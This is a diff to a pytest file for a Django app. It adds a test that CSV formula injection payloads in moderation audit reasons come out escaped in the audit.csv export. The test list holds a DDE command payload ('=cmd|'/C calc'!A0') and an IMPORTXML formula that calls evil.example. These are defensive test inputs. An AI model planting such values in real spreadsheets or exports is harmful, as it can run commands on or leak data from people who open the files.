@@ -9,6 +9,8 @@ from typing import Any
 import pytest
 
 from config import csvio
+from config.audit import note
+from config.testing.client import body_of
 from config.tests.routes.resolver import routes
 from workbooks.catalog.tests.factories import published
 from workbooks.engagement.models import View
@@ -17,7 +19,7 @@ FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=cmd|'/C calc'!A0", '=IMPORTXML("https://evil.example","//a")',
     '"=1+1', ";=1", "＝1+1", "＋1", "－1", "＠x",
 )  # fmt: skip
-CSV_ROUTES = {"GET /api/v1/workbooks/{workbook_id}/stats.csv"}
+CSV_ROUTES = {"GET /api/v1/workbooks/{workbook_id}/stats.csv", "GET /api/v1/moderation/audit.csv"}
 
 
 def cells(raw: bytes) -> list[list[str]]:
@@ -44,6 +46,17 @@ def test_r01_a_formula_in_a_referrer_never_reaches_the_authors_file(api: Any, ow
     View.objects.filter(referrer=None).update(referrer="=cmd|'/C calc'!A0")
     rows = cells(api.as_(owner).get(f"/workbooks/{made.pk}/stats.csv").content)
     assert rows[-1][-1].startswith("'=cmd|")
+    assert not any(cell[:1] in {*"=+@＝", "-"} for row in rows for cell in row)
+
+
+@pytest.mark.django_db
+def test_r01_a_formula_in_a_reason_never_reaches_the_managers_file(api: Any, manager: Any) -> None:
+    for formula in FORMULAS:
+        note(action="case.decided", actor=manager, target=("case", formula), reason=formula)
+    header, *rows = cells(body_of(api.as_(manager).get("/moderation/audit.csv")))
+    reasons = [row[header.index("reason")] for row in rows if row[header.index("action")] == "case.decided"]
+    assert len(reasons) == len(FORMULAS)
+    assert all(reason.startswith("'") for reason in reasons)
     assert not any(cell[:1] in {*"=+@＝", "-"} for row in rows for cell in row)
 
 
